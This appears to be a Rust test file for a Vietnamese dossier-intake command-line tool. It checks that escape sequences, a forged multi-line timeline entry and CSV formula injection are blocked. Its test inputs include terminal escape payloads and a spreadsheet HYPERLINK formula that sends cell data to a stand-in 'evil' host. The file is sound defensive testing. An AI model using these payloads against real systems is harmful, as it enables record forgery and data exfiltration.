//! Attack 4 (escape sequences reached the terminal through `show`, `report day`, `calendar
//! days` and explanations; a multi-line reason forged a timeline line) and attack 5 (formulas
//! reached spreadsheets through every CSV).

use motcua::store::Store;

use super::super::fixtures::{arg, at, dossier, stderr, stdout};
use super::{receive, run, verified};
use motcua::store::testing::Forge;

/// True when the output holds a control character other than a line break or a tab.
fn has_escape(s: &str) -> bool {
    s.chars().any(|c| c.is_control() && c != '\n' && c != '\t')
}

#[test]
fn attack_4_escape_sequences_are_refused_on_input() {
    let dir = tempfile::tempdir().expect("dir");
    let data = dir.path().join("data");
    let o = run(
        &data,
        &[
            "--operator",
            "\u{1b}[31mX\u{1b}[0m\u{7}",
            "receive",
            "--procedure",
            "2.000815",
            "--name",
            "An",
        ],
    );
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(stderr(&o).contains("Cán bộ thực hiện"), "{}", stderr(&o));
    assert!(!has_escape(&stderr(&o)), "the refusal echoes the escape");
    let o = run(
        &data,
        &[
            "receive",
            "--procedure",
            "2.000815",
            "--name",
            "An",
            "--address",
            "\u{1b}]0;PWNED\u{7}",
        ],
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("Địa chỉ"), "{}", stderr(&o));
    std::fs::create_dir_all(data.join("calendar")).expect("calendar dir");
    std::fs::write(
        data.join("calendar/2026.toml"),
        "[[off]]\nfrom = \"2026-03-03\"\nname = \"Nghỉ \\u001b[2J\"\n",
    )
    .expect("notice");
    let o = run(&data, &["calendar", "days", "2026"]);
    assert_eq!(o.status.code(), Some(2), "{}", stdout(&o));
    assert!(
        stderr(&o).contains("dòng 2") && stderr(&o).contains("U+001B"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn attack_4_stored_escapes_never_reach_the_terminal() {
    let dir = tempfile::tempdir().expect("dir");
    let data = dir.path().join("data");
    let code = receive(&data, "Nguyễn Văn An", &[]);
    {
        // Data from before the input rules: forged into the store as it was.
        let store = Store::open(&data).expect("store");
        let mut d = dossier("Trần \u{1b}[31mBình", at("2026-03-02 08:30"));
        d.applicant.address = "\u{1b}]0;PWNED\u{7}\u{1b}[2J".to_owned();
        d.events[0].operator = "\u{1b}[31mX\u{1b}[0m\u{7}".to_owned();
        d.received_by = d.events[0].operator.clone();
        let code_for = |seq: u64| {
            motcua::domain::DossierCode::format(
                "000.00.20.H30",
                at("2026-03-02 08:30").date(),
                u32::try_from(seq + 10).expect("seq"),
            )
        };
        store.insert_new(&d, &code_for).expect("forged intake");
    }
    for args in [
        vec!["show", "000.00.20.H30-260302-0012"],
        vec!["list"],
        vec!["search", "binh"],
        vec!["report", "day", "2026-03-02"],
        vec!["export", "--format", "csv"],
    ] {
        let o = run(&data, &args);
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr(&o));
        assert!(
            !has_escape(&stdout(&o)),
            "{args:?} printed an escape: {:?}",
            stdout(&o)
        );
    }
    let _ = code;
}

#[test]
fn attack_4_a_multi_line_reason_cannot_forge_a_timeline_line() {
    let dir = tempfile::tempdir().expect("dir");
    let data = dir.path().join("data");
    let code = receive(&data, "Nguyễn Văn An", &[]);
    let forged =
        "thiếu giấy tờ\n  2. 10:00 02/03/2026 — Lê Thị Hoa — Trả kết quả cho Nguyễn Văn An";
    let o = run(&data, &["refuse", &code, "--reason", forged]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let o = run(&data, &["show", &code]);
    let shown = stdout(&o);
    let timeline: Vec<&str> = shown
        .lines()
        .filter(|l| l.starts_with("  ") && l.trim_start().starts_with(char::is_numeric))
        .collect();
    assert_eq!(timeline.len(), 2, "{}", stdout(&o));
    assert!(shown.contains("       │ 2. 10:00"), "{shown}");
    verified(&data);
}

#[test]
fn attack_5_no_csv_cell_starts_a_formula() {
    let dir = tempfile::tempdir().expect("dir");
    let data = dir.path().join("data");
    receive(
        &data,
        "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
        &["--organisation", "--address", "=1+2"],
    );
    receive(&data, "Nguyễn Văn An", &["--address", "@SUM(A1:A9)"]);
    let register = dir.path().join("register.csv");
    let o = run(
        &data,
        &[
            "print",
            "register",
            "--from",
            "2026-03-02",
            "--to",
            "2026-03-02",
            "--out",
            arg(&register),
        ],
    );
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let register = std::fs::read_to_string(&register).expect("register");
    for mask in [false, true] {
        let mut args = vec!["export", "--format", "csv"];
        if mask {
            args.push("--mask-personal");
        }
        let o = run(&data, &args);
        for csv in [stdout(&o), register.clone()] {
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
            let mut cells = 0;
            for record in reader.records() {
                for cell in record.expect("csv row").iter() {
                    cells += 1;
                    assert!(
                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "formula cell {cell:?}"
                    );
                }
            }
            assert!(cells > 10);
            assert!(
                csv.contains("'=HYPERLINK") || csv.contains("'=1+2"),
                "{csv}"
            );
        }
    }
}
